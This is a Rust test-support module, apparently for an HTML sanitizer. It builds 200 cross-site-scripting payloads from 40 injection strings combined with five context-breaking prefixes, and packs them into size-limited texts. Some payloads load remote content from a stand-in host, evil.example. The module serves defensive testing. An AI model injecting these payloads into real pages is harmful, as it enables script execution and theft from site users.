//! What strangers may write to make a page run something: each payload in each of the places that it tries to break out of.

/// Each sets `window.planted`, loads something, or changes the page, if any of it is taken for markup.
const PAYLOADS: [&str; 40] = [
    "<script>window.planted=1</script>",
    "<ScRiPt>window.planted=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>window.planted=1</script>",
    "<img src=x onerror=window.planted=1>",
    "<img src=//evil.example/pixel.png>",
    "<img/src=`x`onerror=window.planted=1>",
    "<svg onload=window.planted=1>",
    "<svg><script>window.planted=1</script></svg>",
    "<svg><animate onbegin=window.planted=1 attributeName=x dur=1s>",
    "<svg><use href=//evil.example/s.svg#x></svg>",
    "<body onload=window.planted=1>",
    "<iframe src=javascript:window.planted=1></iframe>",
    "<iframe srcdoc='<script>parent.planted=1</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus>",
    "<input autofocus onfocus=window.planted=1>",
    "<details open ontoggle=window.planted=1>",
    "<video><source onerror=window.planted=1></video>",
    "<audio src=x onerror=window.planted=1>",
    "<math><mtext></mtext><script>window.planted=1</script></math>",
    "<template><script>window.planted=1</script></template>",
    "<a href=javascript:window.planted=1>x</a>",
    "<a href='data:text/html,<script>opener.planted=1</script>'>x</a>",
    "javascript:window.planted=1",
    "{{constructor.constructor('window.planted=1')()}}",
    "${window.planted=1}",
    "<%= planted %>",
    "&lt;script&gt;window.planted=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.planted=1&#62;",
    "\u{202e}<script>window.planted=1</script>",
    "<\u{2028}script>window.planted=1</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.planted=1>\">",
    "<!--><img src=x onerror=window.planted=1>-->",
];
/// What ends the places that values stand in: text, attributes of both kinds, elements that hold text only.
const ENDS: [&str; 5] = ["", "\">", "'>", "</pre></dd></td></a>", "</title></textarea></script></style>-->"];

/// All 200.
pub(super) fn all() -> Vec<String> {
    ENDS.iter().flat_map(|end| PAYLOADS.iter().map(move |payload| format!("{end}{payload}"))).collect()
}

/// All of them in texts of at most that many bytes.
pub(super) fn packed(bytes_max: usize) -> Vec<String> {
    let mut texts: Vec<String> = vec![String::new()];
    for payload in all() {
        if texts.last().is_some_and(|text| text.len() + payload.len() > bytes_max) {
            texts.push(String::new());
        }
        texts.last_mut().expect("never empty").push_str(&payload);
    }
    texts
}
